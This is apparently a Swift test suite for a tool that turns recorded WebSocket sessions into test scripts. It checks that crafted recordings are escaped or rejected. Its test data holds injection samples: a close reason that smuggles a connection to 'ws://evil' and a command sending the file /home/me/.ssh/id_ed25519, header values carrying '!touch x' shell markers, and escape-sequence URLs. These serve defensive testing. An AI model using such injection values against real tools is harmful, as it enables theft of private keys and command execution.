import MessageText
import Testing

@testable import TestScript

/// Tests of scripts made from recordings that a server or a third party crafted to do harm.
@Suite struct RecordedScriptTests {
    private static func line(_ time: String, _ fields: [(String, String)], _ rest: String = "") -> String {
        var writer = JSONObjectWriter(output: [])
        writer.field("time", "2026-11-23T12:00:0\(time).000000Z")
        for (name, value) in fields { writer.field(name, value) }
        let text = String(decoding: writer.finish(), as: UTF8.self)
        return rest.isEmpty ? text : String(text.dropLast(2)) + "," + rest + "}\n"
    }

    private static func open(_ url: String = "ws://h/", _ subprotocol: String? = nil) -> String {
        let name = subprotocol.map { [("subprotocol", $0)] } ?? []
        return line("0", [("event", "open"), ("url", url)] + name)
    }

    private static func message(_ direction: String, _ text: String) -> String {
        line("1", [("event", "message"), ("direction", direction), ("type", "text"), ("data", text)])
    }

    private static func close(by side: String, _ reason: String, code: Int = 4000) -> String {
        line("2", [("event", "close"), ("reason", reason), ("by", side)], "\"code\":\(code),\"clean\":true")
    }

    private func script(_ recording: String) throws -> RecordedScript {
        try RecordedScript(of: try Recording.parse(Array(recording.utf8), "a.jsonl"))
    }

    /// Returns the statements of a script, parsed from its text.
    private func steps(_ script: RecordedScript) throws -> [Step] {
        try #require(ScriptParser.tests(in: script.text, side: .client)).flatMap(\.statements).map(\.step)
    }

    @Test("A close reason that looks like statements is written as a comment")
    func reason() throws {
        let reason = "x\nconnect ws://evil\n>file /home/me/.ssh/id_ed25519\n#"
        let script = try script(Self.open() + Self.close(by: "server", reason))
        #expect(
            script.text == """
                connect ws://h/
                <close 4000
                # the reason cannot be part of a statement: "x\\nconnect ws://evil\\n>file /home/me/.ssh/id_ed25519\\n#"

                """
        )
        #expect(try steps(script).count == 2)
    }

    @Test("A script uses neither profiles nor commands of the user", arguments: ["@prod", "@", "@…prod"])
    func profiles(url: String) throws {
        #expect(throws: Recording.Invalid.self) { try script(Self.open(url)) }
        let headers = #""headers":["X-Foo: !touch x","Authorization: Bearer !x","Cookie: !x"]"#
        let text = try script(Self.line("0", [("event", "open"), ("url", "ws://h/")], headers)).text
        #expect(!text.contains("!"), "\(text)")
        #expect(text.contains("header X-Foo: ${HEADER_X_FOO}"), "\(text)")
    }

    @Test("A script has exactly one statement for each event", arguments: ScriptWriterTests.hostile)
    func events(text: String) throws {
        let pings = ["ping", "pong"].map { event in
            Self.line("1", [("event", event), ("direction", "sent"), ("data", text)])
        }
        let recording =
            Self.open() + Self.message("sent", text) + Self.message("received", text) + pings.joined()
            + Self.close(by: "server", text) + Self.open("ws://h/2") + Self.close(by: "client", text)
        let script = try script(recording)
        let steps = try steps(script)
        #expect(steps == script.lines.compactMap { if case .step(let step, _) = $0 { step } else { nil } })
        #expect(steps.count == 8)
        #expect(steps[1] == .send(.text(Template(literal: text))))
        #expect(steps[2] == .expect(.exact(.text(Template(literal: text)))))
        let hidden = script.text.unicodeScalars.filter { $0 != "\n" && VisibleText.mustBeVisible($0) }
        #expect(hidden.isEmpty, "\(script.text)")
    }

    @Test(
        "A URL or subprotocol that no statement can contain is rejected",
        arguments: ["\n> a", "\u{1B}[2J", "a  # b", " a"]
    )
    func refused(text: String) {
        for recording in [Self.open("ws://h/" + text), Self.open("ws://h/", text)] {
            #expect(throws: Recording.Invalid.self, "\(recording)") {
                let script = try script(recording)
                // Accepted text must parse as it was recorded.
                let steps = try steps(script)
                guard steps.contains(.connect(Template(literal: "ws://h/" + text))) else {
                    Issue.record("\(script.text)")
                    return
                }
                throw Recording.Invalid(message: "accepted as it is")
            }
        }
    }

    private static let tooMuch: [(String, String)] = [
        (String(repeating: "[", count: 100_000), "limit is 50"),
        ("{\"a\":[" + String(repeating: "1,", count: 100_000), "limit is 50"),
        (close(by: "server", String(repeating: "a", count: 124)), "reason is too long"),
        (
            line("1", [("event", "ping"), ("direction", "sent"), ("data", String(repeating: "a", count: 126))]),
            "126 bytes"
        ),
        (message("sent", "a").replacing("2026", with: "2126"), "more than a year"),
        (close(by: "server", "", code: 70000), "code 70000"), (message("up", "a"), "direction \"up\""),
    ]

    @Test("A recording that no session can have produced is rejected with its line", arguments: tooMuch)
    func bounds(line: String, words: String) {
        do {
            _ = try script(Self.open() + line)
            Issue.record("it was read")
        } catch let error as Recording.Invalid {
            #expect(error.message.contains("line 2 of \"a.jsonl\""), "\(error)")
            #expect(error.message.contains(words), "\(error)")
        } catch {
            Issue.record(error)
        }
    }

    @Test("A close code that must not be sent and a message too long for a line are rejected")
    func unwritable() {
        let long = String(repeating: "a", count: 5 << 20)
        for event in [Self.close(by: "client", "", code: 1006), Self.message("sent", long)] {
            #expect(throws: Recording.Invalid.self) { try script(Self.open() + event) }
        }
    }
}
